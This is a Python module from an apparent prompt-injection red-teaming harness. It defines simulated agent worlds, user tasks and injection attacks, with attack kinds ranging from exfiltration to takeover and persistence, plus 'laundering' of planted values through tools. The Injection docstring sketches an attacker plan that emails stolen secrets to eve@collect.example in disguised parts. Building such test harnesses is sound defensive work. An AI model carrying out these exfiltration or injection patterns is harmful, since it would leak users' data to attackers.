"""A world in which an agent works: its tools on plain data, what users ask of it, and what attackers want from it.

Values only, and functions that users of this package write. Nothing here reads a clock or a file.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Generator, Mapping
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Any, TypeAlias, TypeVar

from roadworthy.core.digest import JsonValue
from roadworthy.guard.event import Principal
from roadworthy.redteam.worlds.disguise import PLAIN, Disguise
from roadworthy.redteam.worlds.step import Do, Steps

State: TypeAlias = dict[str, Any]
"""All that a world holds, as JSON. What left it is in it too (``outbox``), so that oracles need nothing else."""

_ID = re.compile(r"[a-z0-9][a-z0-9-]{0,63}")
_T = TypeVar("_T")


class ToolError(Exception):
    """A tool cannot do what it was asked; the text is what the model is told."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Tool:
    """A tool as a model is told of it, and what it does."""

    name: str
    description: str
    parameters: Mapping[str, Mapping[str, Any]]
    """JSON schema of each argument."""

    required: tuple[str, ...] = ()
    run: Callable[[State, Mapping[str, Any]], JsonValue]
    """Changes the state in place and returns the result. Raises `ToolError` where it cannot."""

    @property
    def definition(self) -> dict[str, Any]:
        """As it stands in a request to a model."""
        schema = {"type": "object", "properties": dict(self.parameters), "required": list(self.required)}
        return {"name": self.name, "description": self.description, "parameters": schema}


@dataclass(frozen=True, slots=True, kw_only=True)
class Transcript:
    """What an agent did: the calls that ran, and what the user was told."""

    calls: tuple[Do, ...] = ()
    """With the arguments that the tools were given."""

    answer: str = ""
    """As it reached the user; empty where nothing did."""


@dataclass(frozen=True, slots=True, kw_only=True)
class UserTask:
    """What a user asks for, how a good model does it, and how it is told from the world that it was done."""

    id: str
    asks: str
    """The user's words."""

    plan: Callable[[], Steps[str]]
    """Ground truth: yields each call, is sent its result as the guard lets it be seen, and returns the answer. A
    call that is refused raises `RefusedError` at its ``yield``."""

    done: Callable[[State, State, str], bool]
    """Of the state before and after and the answer, as it reached the user. Changes neither state."""

    def __post_init__(self) -> None:
        _check_id("user task", self.id)


class AttackKind(StrEnum):
    """What the attacker is after."""

    EXFILTRATION = "exfiltration"
    MONEY = "money"
    DELETION = "deletion"
    SHARING = "sharing"
    SABOTAGE = "sabotage"
    """Something is changed or booked that nobody asked for."""

    TAKEOVER = "takeover"
    """A password, an address for recovery, a right."""

    IMPERSONATION = "impersonation"
    """Something is said in the user's name."""

    PERSISTENCE = "persistence"
    """Later runs are to read it: memory, notes, rules."""

    PROPAGATION = "propagation"
    """The injected text is to reach others."""

    PHISHING = "phishing"
    """The user is to be led by the answer."""


def _nothing(how: Disguise) -> Steps[None]:
    yield from ()


@dataclass(frozen=True, slots=True, kw_only=True)
class Injection:
    """What an attacker wants, the text that was planted for it, and the calls that a compromised model makes."""

    id: str
    kind: AttackKind
    goal: str
    """In one sentence."""

    plant: Callable[[State], None]
    """Puts the attacker's text into the world, where the attacker can write: a mail, a bill, a page."""

    marker: str
    """A few words of that text: the model has read it once they are in a result."""

    succeeded: Callable[[State, State, Transcript], bool]
    """Of the state before (planted) and after, and what the agent did. Changes neither state. It knows data also
    where it was disguised (`roadworthy.redteam.worlds.leak`)."""

    plan: Callable[[Disguise], Steps[None]] = _nothing
    """The attacker's calls. Addresses and accounts go through ``how.target``, stolen data through ``how.data``:

        to = yield from how.target("eve@collect.example")
        for part in (yield from how.data(secret)):
            yield do("send_email", to=[to], body=part)
    """

    answer: Callable[[str], str] | None = None
    """Turns what a good model would say to the user into what the attacker wants said. None: the attack is not in the
    answer."""

    beyond: str = ""
    """Why a guard cannot stop this one. Such an attack is played and reported by itself, and is in no rate. Empty: it
    must be stopped."""

    def __post_init__(self) -> None:
        _check_id("injection", self.id)


@dataclass(frozen=True, slots=True, kw_only=True)
class Laundering:
    """A way on which a value comes back as the result of another tool: a note, a file, a contact."""

    name: str
    through: Callable[[str], Steps[str]]
    """Writes the value, reads it back, and returns it as it was read."""


@dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """Tools on a state, for one principal, with user tasks and injections."""

    name: str
    """Its guard policy is ``roadworthy/redteam/worlds/policies/<name>.yaml``."""

    title: str
    principal: Principal
    system: str
    """The operator's prompt."""

    tools: tuple[Tool, ...]
    initial: Callable[[], State]
    """Makes the state anew."""

    tasks: tuple[UserTask, ...]
    injections: tuple[Injection, ...]
    launderings: tuple[Laundering, ...] = ()
    held_out: frozenset[str] = frozenset()
    """Ids of tasks and injections that were written once the policy was done, without a look at it."""

    route: str = "*"
    by_name: Mapping[str, Tool] = field(init=False, repr=False)

    def __post_init__(self) -> None:
        _check_id("world", self.name)
        for what, names in (
            ("tool", [one.name for one in self.tools]),
            ("user task", [one.id for one in self.tasks]),
            ("injection", [one.id for one in self.injections]),
        ):
            repeated = sorted({name for name in names if names.count(name) > 1})
            if repeated:
                raise ValueError(f"world {self.name}: {what} {repeated[0]!r} is there twice")
        object.__setattr__(self, "by_name", {tool.name: tool for tool in self.tools})

    @property
    def definitions(self) -> tuple[dict[str, Any], ...]:
        """Of its tools, as they stand in a request to a model."""
        return tuple(tool.definition for tool in self.tools)

    def perform(self, do: Do, state: State) -> JsonValue:
        """Do ``do`` to ``state``, which changes, and return the tool's result.

        Raises:
            ToolError: If there is no such tool, an argument is missing or unknown, or the tool cannot.
        """
        tool = self.by_name.get(do.tool)
        if tool is None:
            raise ToolError(f"there is no tool {do.tool[:80]!r}")
        missing = [name for name in tool.required if name not in do.arguments]
        unknown = [name for name in do.arguments if name not in tool.parameters]
        if missing or unknown:
            raise ToolError(f"{do.tool}: missing {missing}, unknown {unknown}")
        try:
            return tool.run(state, do.arguments)
        except (LookupError, TypeError, ValueError, AttributeError) as error:
            raise ToolError(f"{do.tool} cannot read its arguments: {type(error).__name__}") from error


def steps_of(plan: Generator[Do, JsonValue, _T], world: World, state: State) -> tuple[tuple[Do, ...], _T]:
    """Return the calls of ``plan`` made without a guard, and what it returned; ``state`` changes.

    Raises:
        ToolError: If a tool cannot do what the plan asks.
    """
    made: list[Do] = []
    try:
        do = next(plan)
        while True:
            made.append(do)
            do = plan.send(world.perform(do, state))
    except StopIteration as end:
        return tuple(made), end.value


def _check_id(what: str, name: str) -> None:
    if _ID.fullmatch(name) is None:
        raise ValueError(f"{what} {name[:80]!r}: an id has letters, digits and hyphens, such as 'pay-the-bill'")


__all__ = [
    "PLAIN",
    "AttackKind",
    "Disguise",
    "Do",
    "Injection",
    "Laundering",
    "State",
    "Steps",
    "Tool",
    "ToolError",
    "Transcript",
    "UserTask",
    "World",
    "steps_of",
]
